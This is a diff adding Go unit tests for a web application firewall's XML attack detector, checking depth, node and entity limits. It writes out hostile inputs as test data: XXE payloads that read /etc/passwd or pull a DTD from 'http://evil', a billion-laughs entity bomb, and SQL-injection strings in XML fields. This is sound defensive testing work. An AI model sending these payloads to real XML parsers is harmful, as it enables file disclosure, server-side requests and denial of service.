@@ -0,0 +1,70 @@
+package wafdefensexml
+
+import (
+	"strings"
+	"testing"
+)
+
+var testLimit = XmlLimit{MaxDepth: 10, MaxEntity: 32, MaxExpandSize: 1024, MaxNodes: 100}
+
+func TestDetermineXMLXxe(t *testing.T) {
+	payloads := []string{
+		`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
+		`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % dtd PUBLIC "x" "http://evil/x.dtd"> %dtd;]><foo/>`,
+		`<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://evil/x.dtd"><foo/>`,
+	}
+	for _, payload := range payloads {
+		if isAttack, _, _ := DetermineXML(payload, testLimit); !isAttack {
+			t.Errorf("xxe not detected: %s", payload)
+		}
+	}
+}
+
+func TestDetermineXMLBillionLaughs(t *testing.T) {
+	payload := `<?xml version="1.0"?><!DOCTYPE lolz [
+<!ENTITY lol "lol">
+<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+]><lolz>&lol3;</lolz>`
+	if isAttack, _, _ := DetermineXML(payload, testLimit); !isAttack {
+		t.Errorf("entity expansion not detected")
+	}
+}
+
+func TestDetermineXMLDepth(t *testing.T) {
+	payload := strings.Repeat("<a>", 20) + strings.Repeat("</a>", 20)
+	if isAttack, _, _ := DetermineXML(payload, testLimit); !isAttack {
+		t.Errorf("depth limit not detected")
+	}
+}
+
+func TestDetermineXMLExtract(t *testing.T) {
+	payload := `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser id="1 or 1=1"><name>samwaf</name></GetUser></soap:Body></soap:Envelope>`
+	isAttack, _, values := DetermineXML(payload, testLimit)
+	if isAttack {
+		t.Fatalf("normal soap should pass")
+	}
+	found := map[string]string{}
+	for _, v := range values {
+		found[v.Name] = v.Value
+	}
+	if found["Envelope/Body/GetUser@id"] != "1 or 1=1" || found["Envelope/Body/GetUser/name"] != "samwaf" {
+		t.Errorf("unexpected values: %v", values)
+	}
+}
+
+func TestDetermineXMLNodeLimit(t *testing.T) {
+	payload := "<root>" + strings.Repeat("<pad>x</pad>", 200) + "<q>1' or '1'='1</q></root>"
+	isAttack, name, _ := DetermineXML(payload, testLimit)
+	if !isAttack || name != "XML节点数量超限" {
+		t.Errorf("node limit not detected, got %v %s", isAttack, name)
+	}
+}
+
+func TestDetermineXMLMalformed(t *testing.T) {
+	payload := `<root><q>1' or '1'='1</q></root` + "\x00"
+	if isAttack, name, _ := DetermineXML(payload, testLimit); !isAttack || name != "XML格式不正确" {
+		t.Errorf("malformed xml should be blocked, got %v %s", isAttack, name)
+	}
+}